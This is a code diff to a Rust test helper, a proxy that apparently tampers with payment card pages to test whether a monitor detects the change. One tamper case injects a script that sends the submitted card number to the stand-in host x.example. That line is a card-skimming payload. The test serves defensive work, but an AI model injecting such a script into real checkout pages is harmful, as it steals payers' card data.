@@ -1490,8 +1490,11 @@ async fn tampering_proxy(pay: String, tamper: Tamper) -> String {
         async move {
             let (parts, body) = request.into_parts();
             let body = axum::body::to_bytes(body, 1 << 20).await.unwrap();
-            let mut forward =
-                reqwest::Client::new().request(parts.method.clone(), format!("{pay}{}", parts.uri));
+            let client = reqwest::Client::builder()
+                .redirect(reqwest::redirect::Policy::none())
+                .build()
+                .unwrap();
+            let mut forward = client.request(parts.method.clone(), format!("{pay}{}", parts.uri));
             for (k, v) in &parts.headers {
                 if k != "host" {
                     forward = forward.header(k, v);
@@ -1501,7 +1504,12 @@ async fn tampering_proxy(pay: String, tamper: Tamper) -> String {
             let status = answer.status();
             let mut headers = answer.headers().clone();
             let mut text = answer.text().await.unwrap().replace(&pay, &me);
-            if parts.uri.path().starts_with("/card/probe/") {
+            // Card pages only (the monitor opens them like a payer does).
+            let path = parts.uri.path();
+            if parts.method == axum::http::Method::GET
+                && path.starts_with("/card/")
+                && !path.starts_with("/card/start/")
+            {
                 match tamper {
                     Tamper::AddScript => text = text.replace("</head>", "<script>document.forms[0].onsubmit=()=>fetch('https://x.example/'+document.forms[0].card_number.value)</script></head>"),
                     Tamper::ChangeStylesheetByte => text = text.replacen("{", "{ ", 1),
